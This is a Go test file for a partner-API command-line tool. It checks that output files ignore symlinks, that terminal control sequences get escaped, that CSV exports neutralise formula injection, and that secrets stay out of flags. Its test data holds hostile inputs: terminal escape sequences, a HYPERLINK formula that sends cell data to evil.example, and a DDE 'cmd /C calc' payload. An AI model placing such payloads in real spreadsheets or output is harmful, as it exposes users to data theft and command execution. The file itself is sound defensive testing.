package main

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/partnerapi/partner-go/events"
	"github.com/partnerapi/partner-go/fake"
	"github.com/partnerapi/partner-go/fake/demo"
	"github.com/partnerapi/partner-go/internal/testkit/mocktest"
)

// TestOutputFilesNeverFollowLinks: every output file (-o of reports
// export, --errors-out of bulk load) is written without following a
// symbolic link, without creating the file a dangling link points to, and
// replaces nothing without --force.
func TestOutputFilesNeverFollowLinks(t *testing.T) {
	t.Parallel()
	srv := bulkServer(t, mocktest.NoWaits()...)
	srv.AddReport(fake.Report{ID: 7, Name: "Deals", Columns: []fake.Column{{ID: "0", Name: "Zone"}}, Rows: [][]any{{"EMEA"}}})
	c := newCLI(srv)
	in := filepath.Join(t.TempDir(), "accounts.csv")
	writeFile(t, in, "account_info.external_account_id,employees\nE-1,many\nE-2,7\n")
	for _, tc := range []struct {
		name string
		args func(out string) []string
	}{
		{"reports export -o", func(out string) []string { return []string{"reports", "export", "7", "-o", out} }},
		{"bulk load --errors-out", func(out string) []string {
			return []string{"bulk", "load", in, "--integration", demo.AccountIntegration, "--errors-out", out, "--allow-partial"}
		}},
	} {
		dir := t.TempDir()
		target := filepath.Join(dir, "precious")
		writeFile(t, target, "keep me\n")
		link := filepath.Join(dir, "link.csv")
		dangling := filepath.Join(dir, "dangling.csv")
		if err := os.Symlink(target, link); err != nil {
			t.Skip("no symbolic links here:", err)
		}
		os.Symlink(filepath.Join(dir, "created-by-link"), dangling)
		existing := filepath.Join(dir, "existing.csv")
		writeFile(t, existing, "old\n")

		for _, out := range []string{link, dangling, existing} {
			if r := c.run(t, tc.args(out)...); r.code != exitUsage || !strings.Contains(r.stderr, "--force") {
				t.Errorf("%s %s without --force: exit %d, stderr %q; want 2 and a hint at --force", tc.name, filepath.Base(out), r.code, r.stderr)
			}
		}
		if got := readFile(t, existing); got != "old\n" {
			t.Errorf("%s: the existing file was overwritten without --force: %q", tc.name, got)
		}
		for _, out := range []string{link, dangling, existing} {
			c.must(t, append(tc.args(out), "--force")...)
			if fi, err := os.Lstat(out); err != nil || !fi.Mode().IsRegular() {
				t.Errorf("%s %s --force: %v, %v; want a regular file in place of the link", tc.name, filepath.Base(out), fi, err)
			}
		}
		if got := readFile(t, target); got != "keep me\n" {
			t.Errorf("%s: the link's target was written: %q", tc.name, got)
		}
		if _, err := os.Lstat(filepath.Join(dir, "created-by-link")); err == nil {
			t.Errorf("%s: a file was created where the dangling link points", tc.name)
		}
		if got := readFile(t, existing); got == "old\n" {
			t.Errorf("%s: --force did not replace the existing file", tc.name)
		}
		if entries, _ := os.ReadDir(dir); len(entries) != 4 {
			t.Errorf("%s: %d entries left in the directory, want 4 (no partial files)", tc.name, len(entries))
		}
	}
}

// hostile is text from the service that drives a terminal: it sets the
// window title, clears the screen and reverses the line.
const hostile = "\x1b]0;pwned\x07\x1b[2J\u202eevil\u009b31m"

// noTerminalControl fails when s holds anything a terminal acts on.
func noTerminalControl(t *testing.T, what, s string) {
	t.Helper()
	if strings.ContainsAny(s, "\x1b\x07\u202e\u009b") {
		t.Errorf("%s holds terminal control characters: %q", what, s)
	}
}

// TestTerminalOutputEscapesControls: report names, cell values, table
// output and messages carrying the service's text reach the terminal with
// their control characters escaped.
func TestTerminalOutputEscapesControls(t *testing.T) {
	t.Parallel()
	srv := fake.NewServer(mocktest.NoWaits()...)
	t.Cleanup(srv.Close)
	srv.AddReport(fake.Report{ID: 7, Name: "Deals" + hostile,
		Columns: []fake.Column{{ID: "0", Name: "Zone" + hostile}, {ID: "1", Name: "Amount", Type: "NUMBER"}},
		Rows:    [][]any{{"EMEA" + hostile, 1}},
		Charts:  []fake.Chart{{ID: 1, Name: "By zone" + hostile, GroupBy: "0"}}})
	c := newCLI(srv)
	c.tty = true
	for _, args := range [][]string{
		{"reports", "list"},
		{"reports", "charts", "7"},
		{"reports", "export", "7"},
		{"reports", "export", "7", "--format", "jsonl"},
	} {
		r := c.must(t, args...)
		noTerminalControl(t, strings.Join(args, " "), r.stdout+r.stderr)
		if !strings.Contains(r.stdout, `\x1b]0;pwned\a`) && !strings.Contains(r.stdout, `\x1b]0;pwned\x07`) && !strings.Contains(r.stdout, `\u001b]0;pwned\u0007`) {
			t.Errorf("%s: the escaped text is not shown: %q", strings.Join(args, " "), r.stdout)
		}
	}

	// An error message quoting the service.
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		w.Write([]byte(`{"error":"invalid_client","error_description":"no \u001b]0;pwned\u0007\u001b[2J such client \u202e"}`))
	}))
	defer evil.Close()
	ec := &cli{env: map[string]string{"PARTNER_BASE_URL": evil.URL, "PARTNER_CLIENT_ID": "id", "PARTNER_CLIENT_SECRET": "secret"}, tty: true}
	r := ec.run(t, "reports", "list")
	if r.code != exitAuth || !strings.Contains(r.stderr, "such client") {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	noTerminalControl(t, "the error line", r.stderr)
}

// TestCSVExportNeutralisesFormulas: a CSV export does not hand a
// spreadsheet live formulas (OWASP CSV injection): cells starting with =,
// +, -, @, tab or carriage return get a quote before them, negative
// numbers included; --raw-csv writes them as they are.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	srv := fake.NewServer(mocktest.NoWaits()...)
	t.Cleanup(srv.Close)
	cells := []any{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-5", "@SUM(A1:A2)", "\t=1", "\r=1", "plain", "a=b"}
	cols := make([]fake.Column, len(cells))
	for i := range cells {
		cols[i] = fake.Column{ID: string(rune('a' + i)), Name: string(rune('a' + i))}
	}
	cols[0].Name = "=cmd|' /C calc'!A0"
	srv.AddReport(fake.Report{ID: 9, Name: "Leads", Columns: cols, Rows: [][]any{cells}})
	c := newCLI(srv)
	dir := t.TempDir()
	read := func(path string) [][]string {
		t.Helper()
		recs, err := csv.NewReader(strings.NewReader(readFile(t, path))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%s: %v %q", path, err, recs)
		}
		return recs
	}

	safe := filepath.Join(dir, "safe.csv")
	c.must(t, "reports", "export", "9", "-o", safe)
	recs := read(safe)
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+2", "'-5", "'@SUM(A1:A2)", "'\t=1", "'\r=1", "plain", "a=b"}
	if strings.Join(recs[1], "|") != strings.Join(want, "|") {
		t.Errorf("cells %q\nwant  %q", recs[1], want)
	}
	if recs[0][0] != "'=cmd|' /C calc'!A0" {
		t.Errorf("header %q not neutralised", recs[0][0])
	}

	raw := filepath.Join(dir, "raw.csv")
	c.must(t, "reports", "export", "9", "-o", raw, "--raw-csv")
	recs = read(raw)
	for i, v := range cells {
		if recs[1][i] != v {
			t.Errorf("--raw-csv cell %d: %q, want %q", i, recs[1][i], v)
		}
	}
	if r := c.run(t, "reports", "export", "9", "--format", "jsonl", "--raw-csv"); r.code != exitUsage {
		t.Errorf("--raw-csv with jsonl: exit %d, want 2", r.code)
	}
}

// TestSecretsWithoutFlags: every secret can come from a file or a
// variable instead of a flag (visible in the process list), and --help
// says so.
func TestSecretsWithoutFlags(t *testing.T) {
	t.Parallel()
	const key = "sk-file-0123456789"
	srv := fake.NewServer(fake.WithDemoData(), fake.WithDeployment(fake.Deployment{SubscriptionKey: key}))
	t.Cleanup(srv.Close)
	c := newCLI(srv)
	keyFile := filepath.Join(t.TempDir(), "key")
	writeFile(t, keyFile, key+"\n")
	for _, cmd := range [][]string{{"reports", "list"}, {"users", "list"}, {"events", "kinds"}, {"token"}} {
		r := c.must(t, append(cmd, "--subscription-key-file", keyFile)...)
		if strings.Contains(r.stdout+r.stderr, key) {
			t.Errorf("%v printed the key", cmd)
		}
	}
	if r := c.run(t, "reports", "list", "--subscription-key", key, "--subscription-key-file", keyFile); r.code != exitUsage {
		t.Errorf("both forms: exit %d, want 2", r.code)
	}
	h := c.must(t, "reports", "list", "--help").stdout
	for _, flag := range []string{"--client-secret ", "--subscription-key "} {
		i := strings.Index(h, flag)
		if i < 0 {
			t.Fatalf("--help lacks %s", flag)
		}
		line, _, _ := strings.Cut(h[i:], "\n")
		if !strings.Contains(line, "process list") {
			t.Errorf("--help of %s does not say it is visible to others: %q", flag, line)
		}
	}
}

// TestPrintDeliveryOnTerminalIsJSON: a delivery printed on a terminal has
// what a terminal acts on escaped, and is still one valid JSON line that
// decodes to the text received (invalid UTF-8 read as U+FFFD, as a JSON
// decoder reads it).
func TestPrintDeliveryOnTerminalIsJSON(t *testing.T) {
	t.Parallel()
	// As a sender writes it: C0 controls escaped, DEL, C1 and bidi raw;
	// then a byte of invalid UTF-8.
	name, _ := json.Marshal("a" + hostile + "\x7f")
	body := `{"name":` + strings.TrimSuffix(string(name), `"`) + "\xffb\"}"
	d := &events.Delivery{Event: "object.update", SubscriberID: "sub-1", Raw: json.RawMessage(body)}
	var buf strings.Builder
	if err := printDelivery(&buf, d, true); err != nil {
		t.Fatal(err)
	}
	line := buf.String()
	noTerminalControl(t, "delivery line", line)
	if strings.ContainsAny(line, "\x7f") || !utf8.ValidString(line) || !strings.HasSuffix(line, "}\n") {
		t.Fatalf("delivery line %q: want valid UTF-8 without DEL, ending in one newline", line)
	}
	var got struct {
		Body struct{ Name string } `json:"body"`
	}
	if err := json.Unmarshal([]byte(line), &got); err != nil {
		t.Fatalf("delivery line %q is not JSON: %v", line, err)
	}
	if want := "a" + strings.ToValidUTF8(hostile+"\x7f\xff", "\uFFFD") + "b"; got.Body.Name != want {
		t.Errorf("decoded name %q, want %q", got.Body.Name, want)
	}
}
